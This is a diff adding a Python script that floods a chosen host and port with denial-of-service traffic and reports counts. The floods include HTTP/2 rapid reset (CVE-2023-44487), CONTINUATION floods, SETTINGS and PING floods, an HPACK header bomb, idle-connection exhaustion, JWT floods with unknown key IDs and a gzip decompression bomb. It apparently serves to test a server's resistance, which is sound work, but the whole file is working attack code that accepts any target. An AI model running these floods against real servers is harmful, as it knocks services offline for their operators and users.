@@ -1,0 +1,242 @@
+"""Floods of one kind against one address, for so many seconds.
+
+Usage: attack.py KIND HOST PORT SECONDS [WORDS...]
+
+Frames are made with the libraries behind PyPI's h2. Prints one line of JSON: how much was
+sent, over how many connections, and how many of these the server cut.
+"""
+
+import json
+import random
+import resource
+import socket
+import sys
+import time
+
+import h2.connection
+from hpack import Encoder
+from hyperframe import frame
+
+BATCH = 100
+PATIENCE = 5.0
+
+
+class Count:
+    def __init__(self):
+        self.sent = self.connections = self.cut = self.open = 0
+        self.answers = {}
+
+    def line(self):
+        return json.dumps(vars(self))
+
+
+def raise_limit():
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+
+def preface():
+    connection = h2.connection.H2Connection()
+    connection.initiate_connection()
+    return connection.data_to_send()
+
+
+def head(encoder, method, path, extra=()):
+    fields = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]
+    return encoder.encode(fields + list(extra))
+
+
+def headers(stream, block, *flags):
+    made = frame.HeadersFrame(stream, data=block)
+    for flag in flags:
+        made.flags.add(flag)
+    return made.serialize()
+
+
+def rapid_reset(encoder):
+    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
+    stream = 1
+    while True:
+        batch = b""
+        for _ in range(BATCH):
+            batch += headers(stream, head(encoder, "GET", "/open/x"), "END_HEADERS", "END_STREAM")
+            batch += frame.RstStreamFrame(stream, error_code=8).serialize()
+            stream += 2
+        yield batch, BATCH
+
+
+def continuation(encoder):
+    """A head that never ends (CVE-2024-27316 and its kin)."""
+    yield headers(1, head(encoder, "GET", "/open/x")), 1
+    number = 0
+    while True:
+        batch = b""
+        for _ in range(BATCH):
+            number += 1
+            batch += frame.ContinuationFrame(1, data=encoder.encode([(f"x-{number}", "y" * 50)])).serialize()
+        yield batch, BATCH
+
+
+def settings(encoder):
+    while True:
+        yield frame.SettingsFrame(0, settings={4: 65535}).serialize() * BATCH, BATCH
+
+
+def ping(encoder):
+    while True:
+        yield frame.PingFrame(0, opaque_data=b"12345678").serialize() * BATCH, BATCH
+
+
+def empty_data(encoder):
+    """DATA without data that does not end its stream."""
+    yield headers(1, head(encoder, "POST", "/open/x"), "END_HEADERS"), 1
+    while True:
+        yield frame.DataFrame(1, data=b"").serialize() * BATCH, BATCH
+
+
+def header_bomb(encoder):
+    """One long field in the table of HPACK, then references of one byte to it."""
+    stream = 1
+    block = encoder.encode([("x-bomb", "b" * 3900)])
+    while True:
+        start = head(encoder, "GET", "/bomb/x") + (block if stream == 1 else b"")
+        bomb = start + b"\xbe" * 15000
+        opening = frame.HeadersFrame(stream, data=bomb[:8000])
+        opening.flags.add("END_STREAM")
+        rest = frame.ContinuationFrame(stream, data=bomb[8000:])
+        rest.flags.add("END_HEADERS")
+        yield opening.serialize() + rest.serialize(), 1
+        stream += 2
+
+
+FRAMES = {
+    "rapid-reset": rapid_reset,
+    "continuation": continuation,
+    "settings": settings,
+    "ping": ping,
+    "empty-data": empty_data,
+    "header-bomb": header_bomb,
+}
+
+
+def flood_frames(kind, address, end, count):
+    while time.monotonic() < end:
+        connection = socket.create_connection(address, PATIENCE)
+        connection.settimeout(0.2)
+        count.connections += 1
+        try:
+            connection.sendall(preface())
+            for batch, frames in FRAMES[kind](Encoder()):
+                connection.sendall(batch)
+                count.sent += frames
+                if time.monotonic() > end:
+                    break
+                # What the server says is read, so that it is not the client that blocks.
+                connection.setblocking(False)
+                try:
+                    while True:
+                        if not connection.recv(65536):
+                            raise ConnectionError
+                except BlockingIOError:
+                    pass
+                connection.settimeout(0.5)
+        except TimeoutError:
+            # The server takes no more on this connection.
+            pass
+        except OSError:
+            count.cut += 1
+        finally:
+            connection.close()
+
+
+def connections(address, end, count):
+    """Connections that say nothing."""
+    raise_limit()
+    opened = []
+    while time.monotonic() < end and count.connections < 6000:
+        try:
+            opened.append(socket.create_connection(address, PATIENCE))
+            count.connections += 1
+        except OSError:
+            count.cut += 1
+    time.sleep(max(0.0, end - time.monotonic()))
+    for one in opened:
+        one.setblocking(False)
+        try:
+            if one.recv(1) == b"":
+                count.cut += 1
+        except BlockingIOError:
+            count.open += 1
+        except OSError:
+            count.cut += 1
+    count.sent = count.connections
+
+
+def key_ids(address, end, count):
+    """Tokens, each with a kid that nobody knows."""
+    import base64
+
+    encode = lambda data: base64.urlsafe_b64encode(data).rstrip(b"=")
+    claims = encode(b'{"iss":"https://id.example.org","aud":"floods","sub":"eve","exp":4102444800}')
+    while time.monotonic() < end:
+        connection = socket.create_connection(address, PATIENCE)
+        connection.settimeout(PATIENCE)
+        count.connections += 1
+        batch = b""
+        for _ in range(BATCH):
+            kid = "%032x" % random.getrandbits(128)
+            token = encode(b'{"alg":"ES256","kid":"' + kid.encode() + b'"}') + b"." + claims + b"." + encode(bytes(64))
+            batch += b"GET /tokens/x HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token + b"\r\n\r\n"
+        connection.sendall(batch)
+        got = b""
+        try:
+            while got.count(b"HTTP/1.1 ") < BATCH:
+                more = connection.recv(65536)
+                if not more:
+                    break
+                got += more
+        except TimeoutError:
+            pass
+        for part in got.split(b"HTTP/1.1 ")[1:]:
+            status = part[:3].decode()
+            count.answers[status] = count.answers.get(status, 0) + 1
+        count.sent += BATCH
+        connection.close()
+
+
+def compressed(address, end, count):
+    """A body of some kilobytes that would be a gigabyte."""
+    import zlib
+
+    start = time.monotonic()
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = bytes(1 << 20)
+    bomb = b"".join(packer.compress(zeros) for _ in range(1024)) + packer.flush()
+    request = (
+        b"POST /open/x HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Type: application/json\r\n"
+        b"Content-Length: %d\r\n\r\n" % len(bomb)
+    ) + bomb
+    # Making it takes its time, which is not the attack's.
+    end += time.monotonic() - start
+    while time.monotonic() < end:
+        connection = socket.create_connection(address, PATIENCE)
+        connection.settimeout(PATIENCE)
+        count.connections += 1
+        connection.sendall(request)
+        status = connection.recv(65536)[9:12].decode()
+        count.answers[status] = count.answers.get(status, 0) + 1
+        count.sent += 1
+        connection.close()
+
+
+def main():
+    kind, host, port, seconds = sys.argv[1:5]
+    address, end, count = (host, int(port)), time.monotonic() + float(seconds), Count()
+    if kind in FRAMES:
+        flood_frames(kind, address, end, count)
+    else:
+        {"connections": connections, "key-ids": key_ids, "compressed": compressed}[kind](address, end, count)
+    print(count.line())
+
+
+main()
